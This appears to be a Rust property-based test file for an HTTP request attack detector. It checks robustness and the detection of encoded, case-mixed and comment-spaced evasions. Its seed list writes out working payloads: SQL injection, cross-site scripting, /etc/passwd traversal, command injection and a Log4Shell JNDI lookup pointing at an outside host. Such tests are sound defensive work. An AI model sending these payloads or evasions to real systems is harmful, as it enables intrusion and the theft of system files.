//! What must hold for every request: no panic, bounds kept, evasions of a known attack seen.

use inspect::{
    AccessLog, Class, EVIDENCE_BYTES_MAX, FINDINGS_MAX, Request, Verdict, inspect,
    inspect_access_log,
};
use proptest::prelude::*;

/// Of a megabyte, at least so much must lie beyond some bound.
const UNSEEN_BYTES_MIN: usize = 256 * 1024;

/// Attacks that are detected as they stand.
const SEEDS: &[(&str, Class)] = &[
    ("1' or 1=1 -- ", Class::SqlInjection),
    ("-1 union select 1,2,version()", Class::SqlInjection),
    ("1; drop table users --", Class::SqlInjection),
    ("<script>alert(1)</script>", Class::CrossSiteScripting),
    ("<img src=x onerror=alert(1)>", Class::CrossSiteScripting),
    ("../../../../etc/passwd", Class::PathTraversal),
    (";cat /etc/passwd", Class::CommandInjection),
    ("|| whoami", Class::CommandInjection),
    ("${jndi:ldap://203.0.113.9/a}", Class::Log4shell),
    ("{{7*7}}", Class::TemplateInjection),
];

fn bytes_with_signs() -> impl Strategy<Value = Vec<u8>> {
    let sign = prop::sample::select(&b"'\"<>()%&;|`${}[]\\/*-#=+.,:!@ \r\n\0uxselctonr0123"[..]);
    prop::collection::vec(prop_oneof![3 => sign, 1 => any::<u8>()], 0..400)
}

proptest! {
    #[test]
    fn no_bytes_panic_or_break_a_bound(bytes in bytes_with_signs(), body in bytes_with_signs()) {
        let text = String::from_utf8_lossy(&bytes);
        for media in ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", ""] {
            let headers = [("Content-Type", media), ("Cookie", text.as_ref()), ("Referer", text.as_ref()), ("User-Agent", text.as_ref())];
            let verdict = inspect(&Request {
                method: "POST", target: &text, version: "HTTP/1.1", headers: &headers, body: &body, whole: true,
            });
            prop_assert!(verdict.findings.len() <= FINDINGS_MAX);
            prop_assert!((0.0..=1.0).contains(&verdict.score));
            for finding in &verdict.findings {
                prop_assert!(finding.evidence.len() <= EVIDENCE_BYTES_MAX);
                prop_assert!(finding.score <= verdict.score);
            }
        }
    }

    #[test]
    fn encoded_seeds_are_seen(seed in 0..SEEDS.len(), rounds in 1..=3_usize, every in any::<bool>()) {
        let (payload, class) = SEEDS[seed];
        let mut encoded = payload.to_owned();
        for _ in 0..rounds {
            encoded = percent(&encoded, if every { Encode::All } else { Encode::Signs });
        }
        prop_assert!(finds(&encoded, class), "{encoded}");
    }

    #[test]
    fn case_does_not_hide(seed in 0..SEEDS.len(), upper in any::<u64>()) {
        let (payload, class) = SEEDS[seed];
        let mixed: String = payload
            .chars()
            .enumerate()
            .map(|(at, c)| if upper >> (at % 64) & 1 == 1 { c.to_ascii_uppercase() } else { c })
            .collect();
        prop_assert!(finds(&percent(&mixed, Encode::Signs), class), "{mixed}");
    }

    #[test]
    fn spaces_do_not_hide_sql(space in prop::sample::select(&["/**/", "\t", "\n", "/*x*/", "  ", "\u{b}", "/*!*/"][..])) {
        for (payload, class) in SEEDS.iter().filter(|(_, class)| *class == Class::SqlInjection) {
            let spaced = payload.replace(' ', space);
            prop_assert!(finds(&percent(&spaced, Encode::Signs), *class), "{spaced}");
        }
    }

    #[test]
    fn words_and_numbers_are_clean(words in prop::collection::vec("[a-z]{1,12}|[0-9]{1,8}", 1..12)) {
        // English joins words with "and" and "or" as SQL does; alone they must mean nothing.
        let target = format!("/find?q={}", words.join("+"));
        prop_assert!(!verdict(&target).attack, "{target}");
    }
}

#[test]
fn a_megabyte_is_bounded() {
    for pattern in [
        "'", "<", "((", "../", ";a ", "${", "&#", "%25", "or 1=", "$(", "\\x", "on", "alert", "{{",
        "a=b&",
    ] {
        let body = pattern.repeat((1 << 20) / pattern.len());
        for media in ["text/plain", "application/json", "application/x-www-form-urlencoded"] {
            let verdict = inspect(&Request {
                method: "POST",
                target: "/",
                version: "HTTP/1.1",
                headers: &[("content-type", media)],
                body: body.as_bytes(),
                whole: true,
            });
            assert!(verdict.unseen_bytes > UNSEEN_BYTES_MIN, "{pattern} {media}");
        }
    }
}

#[derive(Clone, Copy)]
enum Encode {
    All,
    Signs,
}

fn percent(text: &str, encode: Encode) -> String {
    text.bytes()
        .map(|byte| match (encode, byte) {
            (Encode::Signs, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9') => {
                char::from(byte).to_string()
            }
            _ => format!("%{byte:02x}"),
        })
        .collect()
}

fn finds(value: &str, class: Class) -> bool {
    let verdict = verdict(&format!("/item?id={value}"));
    verdict.attack && verdict.findings.iter().any(|finding| finding.class == class)
}

fn verdict(target: &str) -> Verdict {
    inspect_access_log(&AccessLog { method: "GET", target, ..AccessLog::default() })
}
